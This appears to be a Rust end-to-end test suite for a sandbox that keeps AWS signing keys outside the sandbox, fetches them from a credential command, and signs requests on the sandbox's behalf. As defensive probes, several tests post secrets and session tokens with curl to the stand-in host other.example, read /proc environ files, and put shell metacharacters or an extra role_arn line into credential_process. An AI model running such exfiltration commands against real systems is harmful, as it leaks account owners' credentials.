//! Signing keys that a command prints: fetched outside when a request needs one, used until shortly
//! before they end, and in the sandbox as little as any other.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

use e2e::internet::{events, is_possible, on_servers};
use e2e::{Outcome, World, aws, holders, write_program};

const SERVERS: &str = include_str!("signing/servers.py");
const PRINTS: &str = include_str!("signing/prints.py");
const NAMES: &[&str] = &[
    "s3.eu-west-1.amazonaws.com",
    "dynamodb.eu-west-1.amazonaws.com",
    "sts.us-east-1.amazonaws.com",
    "sts.eu-west-1.amazonaws.com",
    "other.example",
];
/// A part of each real id, secret and session token.
const REAL: [&str; 3] = [
    "PR1NT3DK3YTEST",
    "pr1nt3dS3c/0fTh1sT3st",
    "FwoGpr1nt3dT0/OfTh1sT3st",
];
const CURL: &str = "curl -sS -m 60 --noproxy '*'";
/// A request that curl signs.
const SIGNED: &str = "curl -sS -m 60 --noproxy '*' --aws-sigv4 aws:amz:eu-west-1:s3 \
    --user \"$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY\" -H \"x-amz-security-token: $AWS_SESSION_TOKEN\"";
/// The equivalent of `aws configure export-credentials` in version 2 of AWS's command line, by the
/// library that finds keys for both versions.
const EXPORT: &str = "#!/usr/bin/python3 -I
import json, sys
sys.path.insert(0, 'SITE')
import botocore.session
key = botocore.session.Session(profile=sys.argv[1]).get_credentials().get_frozen_credentials()
print(json.dumps({'Version': 1, 'AccessKeyId': key.access_key, 'SecretAccessKey': key.secret_key, 'SessionToken': key.token}))
";
const BUCKET: &str = "https://s3.eu-west-1.amazonaws.com/bucket";

/// Returns a world with AWS's programs and a command that prints keys in this way, if there can be
/// one.
fn world(name: &str, how: &str) -> Option<World> {
    let world = World::new(name);
    write_program(&world.top().join("prints.py"), PRINTS);
    for real in &REAL[1..] {
        world.canary(real, &["keys", "prints.py", "sought"]);
    }
    to_go(&world, how, "");
    (is_possible(&world, &["openssl"]) && aws::is_there(&world)).then_some(world)
}

/// Sets the behaviour of the command.
fn to_go(world: &World, how: &str, further: &str) {
    let top = world.top().display();
    from(
        world,
        &format!("{{ command = ['{top}/prints.py', '{top}', '{how}']{further} }}"),
    );
}

/// Sets the source of the key.
fn from(world: &World, source: &str) {
    let hosts = "['s3.eu-west-1.amazonaws.com', 'dynamodb.eu-west-1.amazonaws.com']";
    let profile = format!(
        "[network]\nallow = ['s3.eu-west-1.amazonaws.com', 'dynamodb.eu-west-1.amazonaws.com', 'other.example']\n\
         [environment]\nset = {{ AWS_DEFAULT_REGION = 'eu-west-1', AWS_PAGER = '' }}\n\
         [credential.aws]\nsource = {source}\nto = {hosts}\n\
         place = {{ sigv4 = {{ region = 'eu-west-1', service = ['s3', 'dynamodb'] }} }}\n"
    );
    world.profile("bound", &profile);
}

/// Runs a shell script in a sandbox, where the origins are.
fn online(world: &World, script: &str) -> Outcome {
    let run = on_servers(world, SERVERS, NAMES, "\"$ATOLL\" run --discard \"$@\"");
    let site = aws::site();
    run.args(["sh", "--profile", "bound", "--ro", &site, "--", "sh", "-c"])
        .arg(format!("{}{script}", aws::inside()))
        .run()
}

/// Returns the requests that have reached the origins.
fn requests(world: &World) -> String {
    fs::read_to_string(world.top().join("internet/requests")).unwrap_or_default()
}

/// Returns the number of times that the command was run.
fn runs(world: &World) -> usize {
    let runs = fs::read_to_string(world.top().join("runs"));
    runs.unwrap_or_default().lines().count()
}

fn forget(world: &World) {
    for file in ["runs", "keys", "internet/requests"] {
        let _ = fs::remove_file(world.top().join(file));
    }
}

/// Checks that the program has seen no real key, and that only requests signed correctly by a valid
/// key have arrived.
fn expect_clean(world: &World, outcome: &Outcome) {
    let reached = requests(world);
    assert!(!reached.contains("WRONG "), "{reached}\n{outcome}");
    let seen = outcome.out() + &outcome.err();
    for real in REAL {
        assert!(!seen.contains(real), "{real}: {outcome}");
    }
}

#[test]
fn a_key_that_a_command_prints_is_fetched_anew_before_it_ends() {
    let name = "a_key_that_a_command_prints_is_fetched_anew_before_it_ends";
    let Some(world) = world(name, "short") else {
        return;
    };
    // One client goes on with one placeholder, whatever the real key is by then.
    let boto = "import boto3, time; s3 = boto3.client('s3'); \
        print('first', s3.list_buckets()['Buckets'][0]['Name']); time.sleep(15); \
        print('second', s3.list_buckets()['Buckets'][0]['Name']); \
        print('tables', boto3.client('dynamodb').list_tables()['TableNames'][0]); \
        told = s3.get_object(Bucket='bucket', Key='masked'); import os; \
        print('lengths', [len(one) for one in told['Body'].read().decode().split()], \
        told['ResponseMetadata']['HTTPHeaders']['x-echo'] == os.environ['AWS_ACCESS_KEY_ID'])";
    let script = format!(
        "python3 -c \"{boto}\"; aws s3 ls; {CURL} \"$(aws s3 presign s3://bucket/key)\"; \
         {SIGNED} {BUCKET}/curl; echo \"id $AWS_ACCESS_KEY_ID\"; echo \"secret $AWS_SECRET_ACCESS_KEY\"; \
         echo \"token $AWS_SESSION_TOKEN\"; cat /proc/[0-9]*/environ | tr '\\0' '\\n'"
    );
    let outcome = online(&world, &script).success();
    let (out, reached) = (outcome.out(), requests(&world));
    expect_clean(&world, &outcome);
    for said in [
        "first welcome",
        "second welcome",
        "tables welcome",
        "03:04:05 welcome",
        "lengths [20, 40, 56] True",
    ] {
        assert!(out.contains(said), "{said}: {outcome}\n{reached}");
    }
    assert_eq!(
        out.matches("\nwelcome\n").count() + out.matches("welcome\nwelcome\n").count(),
        2,
        "{outcome}\n{reached}"
    );
    // A slow machine may take longer than one more holds.
    assert!(
        (2..=6).contains(&runs(&world)),
        "{}: {outcome}",
        runs(&world)
    );
    for id in ["ASIAPR1NT3DK3YTEST00/", "ASIAPR1NT3DK3YTEST01/"] {
        assert!(reached.contains(id), "{id}: {reached}");
    }
    let said = |name: &str| {
        let line = out.lines().find_map(|line| line.strip_prefix(name));
        line.unwrap_or_default().to_owned()
    };
    let (id, secret, token) = (said("id "), said("secret "), said("token "));
    assert!(id.starts_with("ASIA") && id.len() == 20, "{id}");
    assert!(secret.len() == 40 && token.len() == 256, "{outcome}");
    for placeholder in [id, secret, token] {
        assert!(!reached.contains(&placeholder), "{reached}");
    }
    let opened = events(&world, "flow.opened");
    let with = opened.iter().filter(|one| one["credential"] == "aws");
    assert_eq!(with.count(), reached.lines().count(), "{opened:?}");
    assert!(!outcome.err().contains("alert"), "{outcome}");
    // It is run outside, where no value of the key's own variables is.
    let ran = fs::read_to_string(world.top().join("runs")).unwrap();
    assert!(ran.contains("\"at\": \"/\""), "{ran}");
}

#[test]
fn a_command_that_prints_a_key_is_run_once_for_all_that_wait_and_for_nothing_else() {
    let name = "a_command_that_prints_a_key_is_run_once_for_all_that_wait_and_for_nothing_else";
    let Some(world) = world(name, "slow") else {
        return;
    };
    // What is not signed, or not as it may be, has none fetched and reaches nobody.
    let status = "-o /dev/null -w '%{http_code} '";
    let script = format!(
        "{CURL} {status} {BUCKET}/unsigned; \
         {CURL} {status} -H \"X-Key: $AWS_SECRET_ACCESS_KEY\" {BUCKET}/secret-in-header; \
         {CURL} {status} \"{BUCKET}/$AWS_ACCESS_KEY_ID\"; \
         {CURL} {status} -H \"X-Amz-Security-Token: $AWS_SESSION_TOKEN\" {BUCKET}/token-alone; \
         {CURL} {status} -d \"$AWS_SESSION_TOKEN\" https://other.example/token-in-body; \
         {CURL} {status} -d \"$AWS_SECRET_ACCESS_KEY\" https://other.example/secret-in-body; \
         {other} {status} {BUCKET}/other-region; \
         {SIGNED} {status} https://other.example/other-host",
        other = SIGNED.replace("eu-west-1", "us-east-1")
    );
    let outcome = online(&world, &script);
    assert_eq!(
        outcome.out().trim(),
        "403 403 403 403 403 403 403 403",
        "{outcome}"
    );
    let reached = requests(&world);
    assert_eq!(reached.lines().count(), 1, "{reached}");
    assert!(reached.contains("/unsigned"), "{reached}");
    assert_eq!(runs(&world), 0, "{outcome}");
    assert!(outcome.err().contains("alert"), "{outcome}");

    forget(&world);
    let boto = "import boto3, threading; from botocore.config import Config; \
        s3 = boto3.client('s3', config=Config(max_pool_connections=60, retries={'total_max_attempts': 1})); \
        all = [threading.Thread(target=lambda: print(s3.list_buckets()['Buckets'][0]['Name'])) for _ in range(60)]; \
        [one.start() for one in all]; [one.join() for one in all]";
    let outcome = online(&world, &format!("python3 -c \"{boto}\"")).success();
    expect_clean(&world, &outcome);
    let failed = events(&world, "flow.closed").into_iter();
    let failed: Vec<_> = failed.map(|one| one["failure"].to_string()).collect();
    let served = outcome.out().matches("welcome").count();
    assert_eq!(served, 60, "{failed:?}\n{outcome}");
    assert_eq!(requests(&world).matches("signed GET").count(), 60);
    assert_eq!(runs(&world), 1, "{outcome}");
}

#[test]
fn a_key_without_a_session_token_is_sent_without_one() {
    let name = "a_key_without_a_session_token_is_sent_without_one";
    let Some(world) = world(name, "bare") else {
        return;
    };
    let script = format!(
        "echo \"token ${{#AWS_SESSION_TOKEN}}\"; aws s3 ls; aws dynamodb list-tables; \
         {CURL} \"$(aws s3 presign s3://bucket/key)\"; {SIGNED} {BUCKET}/curl"
    );
    let outcome = online(&world, &script).success();
    let (out, reached) = (outcome.out(), requests(&world));
    expect_clean(&world, &outcome);
    assert!(out.contains("token 256"), "{outcome}");
    assert_eq!(out.matches("welcome").count(), 4, "{outcome}\n{reached}");
    assert_eq!(reached.lines().count(), 4, "{reached}");
    assert!(
        !reached.to_lowercase().contains("security-token"),
        "{reached}"
    );
    assert!(reached.contains("X-Amz-Signature="), "{reached}");
    assert_eq!(runs(&world), 1, "{outcome}");
}

#[test]
fn a_command_that_prints_no_key_that_holds_is_told_and_signs_nothing() {
    let name = "a_command_that_prints_no_key_that_holds_is_told_and_signs_nothing";
    let Some(world) = world(name, "version") else {
        return;
    };
    for (how, why) in [
        (
            "version",
            "its Version is not 1: a key that signs comes as JSON",
        ),
        (
            "half",
            "it prints no SecretAccessKey: a key that signs comes as JSON",
        ),
        ("odd", "its AccessKeyId is no id of a key"),
        ("undated", "its Expiration is no time"),
        (
            "expired",
            "the key that it prints has expired: run it outside, and log in",
        ),
        (
            "plain",
            "what it prints is no key that can be read: a key that signs comes as JSON",
        ),
        (
            "silent",
            "it prints nothing: a key that signs comes as JSON",
        ),
        ("hangs", "its command took longer than 2 s"),
        ("floods", "it prints more than 65536 bytes"),
        (
            "fails",
            "its command ended with status 255: run it outside, and log in",
        ),
    ] {
        forget(&world);
        let seconds = if how == "hangs" { 2 } else { 20 };
        to_go(&world, how, &format!(", timeout = '{seconds}s'"));
        let script = format!("for i in 1 2 3; do {SIGNED} {BUCKET}/$i & done; wait");
        let outcome = online(&world, &script);
        let ledger = world
            .atoll(["ledger", "show", "--json", "last"])
            .run()
            .out();
        let told = format!("credential aws cannot be fetched: its command: {why}");
        let told = match how {
            "hangs" | "fails" => told.replace("its command: ", ""),
            _ => told,
        };
        assert_eq!(outcome.out().matches(&told).count(), 3, "{how}: {outcome}");
        assert!(ledger.contains(why), "{how}: {ledger}");
        assert_eq!(requests(&world), "", "{how}: {outcome}");
        expect_clean(&world, &outcome);
        for real in &REAL[1..] {
            assert!(!ledger.contains(real), "{how}: {ledger}");
        }
        let said = "the session has ended for ***: log in";
        for text in [&ledger, &outcome.err()] {
            assert_eq!(text.contains(said), how == "fails", "{how}: {text}");
        }
        assert!(
            !outcome.out().contains("the session has ended"),
            "{outcome}"
        );
        assert!(runs(&world) <= 2, "{how}: {outcome}");
    }
    // The control.
    forget(&world);
    to_go(&world, "long", "");
    let outcome = online(&world, &format!("{SIGNED} {BUCKET}/one"));
    assert_eq!(
        outcome.out(),
        "welcome\n",
        "{outcome}\n{}",
        requests(&world)
    );
}

#[test]
fn no_process_but_the_one_that_carries_holds_a_key_that_a_command_printed() {
    let name = "no_process_but_the_one_that_carries_holds_a_key_that_a_command_printed";
    let values = [
        "pr1nt3dS3c/0fTh1sT3st+Wh1chN0bodyM4yS000",
        "FwoGpr1nt3dT0/OfTh1sT3st+Wh1chN0bodyM4yS33InAnyPlace00==",
    ];
    for value in values {
        let Some(world) = world(name, "long") else {
            return;
        };
        world.write(holders::sought(&world), value);
        let run = on_servers(&world, SERVERS, NAMES, &holders::searching(&world));
        let run = holders::without_variable(&world, run);
        let site = aws::site();
        let script = format!(
            "{} aws s3 ls; echo KEY=$AWS_SECRET_ACCESS_KEY; echo READY; read go; aws s3 ls",
            aws::inside()
        );
        let outcome = run
            .args(["sh", "--profile", "bound", "--ro", &site, "--", "sh", "-c"])
            .arg(script)
            .run();
        assert_eq!(outcome.out().matches("welcome").count(), 2, "{outcome}");
        holders::expect_held_by(&world, &["atoll-egress"], &outcome.to_string());
        expect_clean(&world, &outcome);
        assert_eq!(runs(&world), 1, "{outcome}");
    }
}

/// Writes the two files of AWS's command line, of which the first has no key.
fn settings(world: &World, text: &str) {
    let place = world.home().join(".aws");
    fs::create_dir_all(&place).unwrap();
    let other = "[other]\naws_access_key_id = AKIAANOTHERKEY000001\n";
    world.write(place.join("credentials"), other);
    let _ = fs::remove_file(place.join("config"));
    world.write(place.join("config"), text);
    for file in ["credentials", "config"] {
        let own = fs::Permissions::from_mode(0o600);
        fs::set_permissions(place.join(file), own).unwrap();
    }
}

#[test]
fn a_profile_of_aws_names_the_command_that_prints_its_key() {
    let name = "a_profile_of_aws_names_the_command_that_prints_its_key";
    let Some(world) = world(name, "long") else {
        return;
    };
    let top = world.top().display();
    // AWS's own command line reads the same of that file.
    let odd = world.top().join("my keys");
    write_program(
        &odd,
        &format!("#!/bin/sh\nexec '{top}/prints.py' '{top}' long \"$@\"\n"),
    );
    let named = format!("\"{}\" \"a b\" c=d 'e \\ f'", odd.display());
    settings(
        &world,
        &format!("[default]\nregion = x\n[profile work]\ncredential_process = {named}\n"),
    );
    from(&world, "{ aws-profile = 'work' }");
    let outcome = online(&world, "aws s3 ls");
    assert!(
        outcome.out().contains("welcome"),
        "{outcome}\n{}",
        requests(&world)
    );
    expect_clean(&world, &outcome);
    let run_by_us = fs::read_to_string(world.top().join("runs")).unwrap();
    // What AWS's library makes of it is a source as well, as for profiles of single sign-on and
    // of roles.
    forget(&world);
    let export = world.top().join("export.py");
    write_program(&export, &EXPORT.replace("SITE", &aws::site()));
    from(
        &world,
        &format!("{{ command = ['{}', 'work'] }}", export.display()),
    );
    let outcome = online(&world, "aws s3 ls");
    assert!(
        outcome.out().contains("welcome"),
        "{outcome}\n{}",
        requests(&world)
    );
    expect_clean(&world, &outcome);
    assert_eq!(runs(&world), 1, "{outcome}");
    // The control: it reads the same in that file.
    world.only_control_follows();
    forget(&world);
    let by_aws = world.host(export.to_str().unwrap()).arg("work");
    let by_aws = by_aws.env("HOME", world.home()).run().success();
    assert!(
        by_aws
            .out()
            .contains("\"AccessKeyId\": \"ASIAPR1NT3DK3YTEST00\""),
        "{by_aws}"
    );
    let how = |runs: &str| {
        let run: serde_json::Value = serde_json::from_str(runs.trim()).unwrap();
        run["how"].clone()
    };
    let run_by_aws = fs::read_to_string(world.top().join("runs")).unwrap();
    assert_eq!(how(&run_by_us), how(&run_by_aws));
    assert_eq!(
        how(&run_by_us),
        serde_json::json!(["long", "a b", "c=d", "e \\ f"])
    );
}

#[test]
fn a_profile_of_aws_that_names_no_command_that_may_run_lets_nothing_start() {
    let world =
        World::new("a_profile_of_aws_that_names_no_command_that_may_run_lets_nothing_start");
    let top = world.top().display();
    let mark = world.top().join("mark");
    let program = format!("#!/bin/sh\ntouch '{}'\n", mark.display());
    let inside = world.workspace().join("helper");
    write_program(&inside, &program);
    write_program(&world.top().join("fine"), &program);
    from(&world, "{ aws-profile = 'work' }");
    let start = || {
        let run = ["run", "--discard", "--profile", "bound", "--", "sh", "-c"];
        let started = world
            .atoll(run)
            .arg("echo started ${#AWS_SESSION_TOKEN}")
            .run();
        assert!(!mark.exists(), "{started}");
        started
    };
    let refused = |words: &[&'static str]| {
        let refused = start().expect_status(125);
        assert!(!refused.out().contains("started"), "{refused}");
        refused.is_clear_error(words.iter().copied());
    };
    let process = |command: &str| {
        settings(
            &world,
            &format!("[profile work]\ncredential_process = {command}\n"),
        );
    };
    let fine = format!("{top}/fine");
    let instead = "\"export-credentials\", \"--profile\", \"work\", \"--format\", \"process\"";
    for (text, words) in [
        ("sso_session = corporate", ["sso_session in ", instead]),
        (
            "role_arn = arn:aws:iam::1:role/r\nsource_profile = other",
            ["role_arn in ", instead],
        ),
        (
            "region = eu-west-1",
            ["it has no aws_access_key_id there", instead],
        ),
    ] {
        settings(&world, &format!("[profile work]\n{text}\n"));
        refused(&words);
    }
    for (command, words) in [
        (format!("{fine} $HOME"), ["'$' in it", "a shell reads"]),
        (format!("{fine} | cat"), ["'|' in it", "a shell reads"]),
        (
            format!("{fine}\nrole_arn = arn:aws:iam::1:role/r"),
            ["role_arn beside", "programs of AWS differ"],
        ),
        (
            format!("{fine} --file={}", inside.display()),
            ["the argument", "is in the workspace"],
        ),
        (
            inside.display().to_string(),
            ["is in the workspace", "runs outside"],
        ),
        (
            "no-such-program-here".to_owned(),
            ["is no program here", "before anything starts"],
        ),
        (
            "./fine".to_owned(),
            ["does not begin with /", "its credential_process"],
        ),
    ] {
        process(&command);
        refused(&words);
    }
    // The file that names it is as good as the program.
    let config = world.home().join(".aws/config");
    process(&fine);
    fs::set_permissions(&config, fs::Permissions::from_mode(0o666)).unwrap();
    refused(&["others than you can write", "config"]);
    let led = world.workspace().join("config");
    fs::copy(&config, &led).unwrap();
    fs::set_permissions(&led, fs::Permissions::from_mode(0o600)).unwrap();
    fs::remove_file(&config).unwrap();
    symlink(&led, &config).unwrap();
    refused(&["config", "can be read inside"]);
    // One that leads there by the workspace, to where nobody inside writes.
    let (real, hop) = (world.top().join("settings"), world.workspace().join("hop"));
    fs::rename(&led, &real).unwrap();
    symlink(&real, &hop).unwrap();
    fs::remove_file(&config).unwrap();
    symlink(&hop, &config).unwrap();
    refused(&["config", "or a link to it is"]);
    // The controls: it is run once a request needs it, and a profile that need not be there.
    process(&fine);
    assert_eq!(start().success().out(), "started 256\n");
    from(&world, "{ aws-profile = 'work' }\noptional = true");
    fs::remove_dir_all(world.home().join(".aws")).unwrap();
    assert_eq!(start().success().out(), "started 0\n");
}
